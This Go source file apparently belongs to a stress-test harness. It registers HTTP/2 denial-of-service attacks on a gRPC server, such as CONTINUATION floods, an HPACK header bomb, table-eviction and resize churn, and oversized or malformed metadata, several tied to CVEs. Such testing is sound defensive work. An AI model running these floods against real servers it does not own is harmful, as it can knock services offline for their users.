package main

import (
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Header blocks: too long, in too many pieces, or too much work.

func init() {
	const manyFrames = 1000

	add(attack{name: "continuation-big", port: grpcPort,
		what: "A header block without end, in CONTINUATION frames of 16 KiB (as in the CONTINUATION floods of 2024).",
		run: each(4, settings{}, func(c *conn) error {
			must(c.WriteHeaders(http2.HeadersFrameParam{StreamID: c.nextID(), BlockFragment: c.fields(redirectPath)}))
			if err := c.send(); err != nil {
				return err
			}
			block := c.trailers("x", strings.Repeat("a", 16_000))
			for range 20 {
				must(c.WriteContinuation(c.lastID, false, block))
			}
			return c.flood()
		})})

	add(attack{name: "continuation-empty", port: grpcPort,
		what: "A header block that is continued by empty CONTINUATION frames without end (CVE-2026-33871).",
		run: each(4, settings{}, func(c *conn) error {
			must(c.WriteHeaders(http2.HeadersFrameParam{StreamID: c.nextID(), BlockFragment: c.fields(redirectPath)}))
			if err := c.send(); err != nil {
				return err
			}
			for range manyFrames {
				must(c.WriteContinuation(c.lastID, false, nil))
			}
			return c.flood()
		})})

	add(attack{name: "continuation-bytes", port: grpcPort,
		what: "Header blocks of calls with 4 KiB of metadata, one byte a CONTINUATION frame.",
		run: each(4, settings{}, func(c *conn) error {
			return c.churn(1, func() {
				id := c.nextID()
				block := c.fields(redirectPath, "x", strings.Repeat("a", 4096))
				must(c.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block[:1], EndStream: true}))
				for i := 1; i < len(block); i++ {
					must(c.WriteContinuation(id, i == len(block)-1, block[i:i+1]))
				}
			})
		})})

	add(attack{name: "headers-empty", port: grpcPort,
		what: "Empty HEADERS frames, each a request without a method (CVE-2019-9518).",
		run: each(4, settings{}, func(c *conn) error {
			return c.churn(200, func() { c.headers(c.nextID(), true, nil) })
		})})

	add(attack{name: "push-promise", port: grpcPort,
		what: "PUSH_PROMISE frames, which a client must not send.",
		run: each(4, settings{}, func(c *conn) error {
			return c.churn(10, func() {
				must(c.WritePushPromise(http2.PushPromiseParam{StreamID: 1, PromiseID: 2, BlockFragment: c.fields(redirectPath),
					EndHeaders: true}))
			})
		})})

	add(attack{name: "hpack-bomb", port: grpcPort,
		what: "An entry of 3.9 KiB in the header table, which each request then names 10 000 times.",
		run: each(4, settings{}, func(c *conn) error {
			c.block.Reset()
			must(c.encoder.WriteField(hpack.HeaderField{Name: "bomb", Value: strings.Repeat("a", 3900)}))
			bomb := strings.Clone(c.block.String())
			c.call(redirectPath, exampleRequest) // whose own entries are in the table before
			first := append(c.plainFields(), bomb...)
			c.headers(c.nextID(), true, first)
			const newest = 0x80 | 62 // the first entry of the table
			return c.churn(1, func() {
				c.headers(c.nextID(), true, append(c.plainFields(), strings.Repeat(string([]byte{newest}), 10_000)...))
			})
		})})

	add(attack{name: "hpack-evictions", port: grpcPort,
		what: "Requests of 700 new entries for the header table each, so that every entry evicts others.",
		run: each(4, settings{}, func(c *conn) error {
			n := 0
			return c.churn(1, func() {
				block := c.plainFields()
				for range 700 {
					n++
					// A literal with incremental indexing: a name of one byte and a value of three.
					block = append(block, 0x40, 1, 'x', 3, 'a'+byte(n%26), 'a'+byte(n/26%26), 'a'+byte(n/676%26))
				}
				c.headers(c.nextID(), true, block)
			})
		})})

	add(attack{name: "hpack-resizes", port: grpcPort,
		what: "Header blocks that begin by changing the size of the table 4 000 times.",
		run: each(4, settings{}, func(c *conn) error {
			return c.churn(1, func() {
				var block []byte
				for range 2000 {
					block = append(block, 0x20, 0x3f, 0xe1, 0x1f) // to 0, and to 4096
				}
				c.headers(c.nextID(), true, append(block, c.plainFields()...))
			})
		})})

	add(attack{name: "hpack-garbage", port: grpcPort,
		what: "Header blocks that name entries which the table does not have.",
		run: each(20, settings{}, func(c *conn) error {
			return c.churn(1, func() { c.headers(c.nextID(), true, []byte{0xff, 0xff, 0xff, 0xff, 0x07}) })
		})})

	add(attack{name: "metadata-short", port: grpcPort,
		what: "Calls whose metadata is within the limit but in fields of a byte each, some 200 of them.",
		run: each(4, settings{}, func(c *conn) error {
			return c.churn(5, func() { c.call(redirectPath, exampleRequest, shortFields(200)...) })
		})})
	add(attack{name: "metadata-malformed", port: grpcPort,
		what: "Calls whose metadata has CR, LF and NUL in its values (CVE-2026-93579).",
		run: each(4, settings{}, func(c *conn) error {
			return c.churn(50, func() { c.call(redirectPath, exampleRequest, "x", "a\r\nb: c\x00") })
		})})
	add(attack{name: "metadata-9k", port: grpcPort,
		what: "Calls with 9 KB of metadata, which is over the limit.",
		run: each(4, settings{}, func(c *conn) error {
			return c.churn(5, func() { c.call(redirectPath, exampleRequest, "x", strings.Repeat("a", 9000)) })
		})})
	add(attack{name: "metadata-1m", port: grpcPort,
		what: "Calls with 1 MiB of metadata.",
		run: each(4, settings{}, func(c *conn) error {
			return c.churn(1, func() { c.call(redirectPath, exampleRequest, "x", strings.Repeat("a", 1<<20)) })
		})})
}

// plainFields are those of a call, none of which goes into the header table.
func (c *conn) plainFields() []byte {
	block := []byte{0x83, 0x86}                                                    // :method POST, :scheme http
	for _, f := range [][2]string{{"\x04", redirectPath}, {"\x01", "localhost"}} { // :path, :authority
		block = append(block, f[0][0], byte(len(f[1])))
		block = append(block, f[1]...)
	}
	for _, f := range [][2]string{{"content-type", "application/grpc"}, {"te", "trailers"}} {
		block = append(block, 0, byte(len(f[0])))
		block = append(append(block, f[0]...), byte(len(f[1])))
		block = append(block, f[1]...)
	}
	return block
}

func shortFields(count int) []string {
	var fields []string
	for range count {
		fields = append(fields, "h", "x")
	}
	return fields
}
